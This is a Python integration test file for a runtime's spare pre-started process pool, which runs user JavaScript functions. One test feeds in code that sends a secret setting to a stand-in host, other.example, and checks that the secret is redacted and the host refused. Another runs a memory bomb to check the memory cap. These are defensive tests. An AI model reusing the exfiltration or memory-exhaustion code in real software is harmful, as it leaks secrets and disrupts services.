"""The process that is up before there is code for it."""

from __future__ import annotations

import asyncio
import json
import os
import signal
from collections.abc import Callable

import pytest

from midstream.domain.function import Ending, FunctionSpec, Limits
from midstream.domain.http import Exchange, Outbound
from tests.integration.runtime.conftest import LIMITS, Runner, echo, event
from tests.integration.runtime.test_pool import Make, gone, pids

COUNTS = "let n = 0; onTrack = () => ({ n: ++n })"


@pytest.fixture
def run(make: Make) -> Runner:
    return make(spare=True)


async def spare_of(run: Runner) -> int:
    """Wait until a spare process is up, and return its id."""
    spare = run.pool._spare
    assert spare is not None
    async with asyncio.timeout(20):
        while spare._coming is None or not spare._coming.done():
            await asyncio.sleep(0.01)
    pid = spare._coming.result().pid
    assert pid is not None
    return pid


async def settled(condition: Callable[[], bool]) -> None:
    async with asyncio.timeout(5):
        while not condition():
            await asyncio.sleep(0.01)


async def test_the_next_instance_gets_the_process_that_is_up_and_another_takes_its_place(run: Runner) -> None:
    await run(COUNTS, instance="a")
    waiting = await spare_of(run)
    assert run.pool.stats() == {"idle": 2, "busy": 0}
    (one,) = await run(COUNTS, instance="b")
    assert json.loads(one.event or b"{}") == {"n": 1}
    assert waiting in pids(run)
    assert await spare_of(run) not in (waiting, *pids(run))
    assert run.kills == []


async def test_instances_that_start_at_once_share_no_process(run: Runner) -> None:
    await run(COUNTS, instance="first")
    await spare_of(run)
    results = await asyncio.gather(*(run(COUNTS, instance=name) for name in "abc"))
    assert [json.loads(one.event or b"{}")["n"] for (one,) in results] == [1, 1, 1]
    assert len(set(pids(run))) == 4


async def test_an_instance_that_comes_while_the_spare_one_does_waits_for_it(run: Runner) -> None:
    spare = run.pool._spare
    assert spare is not None
    await run(COUNTS, instance="a")
    await settled(lambda: spare.alive)
    (one,) = await run(COUNTS, instance="b")
    assert one.ending is Ending.RETURNED
    assert len(set(pids(run))) == 2


async def test_a_spare_process_that_died_is_not_used(run: Runner) -> None:
    await run(COUNTS, instance="a")
    waiting = await spare_of(run)
    os.kill(waiting, signal.SIGKILL)
    await gone(waiting)
    (one,) = await run(COUNTS, instance="b")
    assert json.loads(one.event or b"{}") == {"n": 1}
    assert waiting not in pids(run)
    assert await spare_of(run) != waiting


async def test_the_secrets_and_hosts_of_an_instance_hold_in_a_process_that_was_up_before_them(make: Make) -> None:
    asked: list[Outbound] = []

    async def network(outbound: Outbound) -> Exchange:
        asked.append(outbound)
        return await echo(outbound)

    run = make(network, spare=True)
    await run(COUNTS, instance="a")
    waiting = await spare_of(run)
    code = """async function onTrack(event, settings) {
      console.log(settings.key);
      await fetch('https://other.example/?' + settings.key);
      throw new Error(settings.key);
    }"""
    spec = FunctionSpec("b", "ver_1", code, {"key": "top-secret"}, ("top-secret",), hosts=("api.example",))
    (one,) = await run.pool.invoke(spec, [event()])
    assert waiting in pids(run)
    assert one.error is not None
    told = repr((one.logs, one.error, list(one.requests)))
    assert "top-secret" not in told
    (outbound,) = asked
    (hosts,) = outbound.hosts
    assert hosts.refusal("https", "other.example", 443)
    assert not hosts.refusal("https", "api.example", 443)


async def test_a_spare_process_counts_and_makes_room(make: Make) -> None:
    run = make(spare=True, processes=2)
    await run(COUNTS, instance="a")
    await spare_of(run)
    assert run.pool._alive == 2
    await run(COUNTS, instance="b")
    assert run.pool._alive == 2
    (one,) = await run(COUNTS, instance="c")  # the one idle longest went
    assert one.ending is Ending.RETURNED
    assert run.pool._alive == 2


async def test_memory_is_bounded_from_the_first_code_on(make: Make) -> None:
    run = make(spare=True, limits=Limits(timeout=LIMITS.timeout, memory_mb=64))
    await run(COUNTS, instance="a")
    waiting = await spare_of(run)
    bomb = "onTrack = () => { const all = []; for (;;) all.push(new ArrayBuffer(1 << 24)) }"
    (one,) = await run(bomb, instance="b")
    assert waiting not in pids(run) or one.error is not None
    assert one.ending is not Ending.RETURNED


async def test_a_spare_process_goes_when_nothing_else_is_left_and_at_the_end(run: Runner) -> None:
    await run(COUNTS, instance="a")
    waiting = await spare_of(run)
    await run.pool.let_go(3600)
    assert run.pool.stats() == {"idle": 2, "busy": 0}
    await run.pool.let_go(0)
    assert run.pool.stats() == {"idle": 0, "busy": 0}
    await gone(waiting)
    await run(COUNTS, instance="a")
    waiting = await spare_of(run)
    await run.pool.close()
    await gone(waiting)
    assert run.pool._alive == 0
    assert run.kills == []
